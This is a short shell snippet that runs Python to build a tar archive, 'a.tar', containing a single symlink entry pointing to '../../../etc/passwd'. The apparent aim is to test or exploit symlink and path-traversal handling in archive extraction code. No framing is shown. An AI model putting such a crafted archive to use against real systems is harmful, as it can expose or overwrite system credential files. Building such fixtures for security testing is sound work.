python3 - <<'END'
import tarfile, io
with tarfile.open("a.tar", "w") as t:
    m = tarfile.TarInfo("l"); m.type = tarfile.SYMTYPE; m.linkname = "../../../etc/passwd"; t.addfile(m)
END
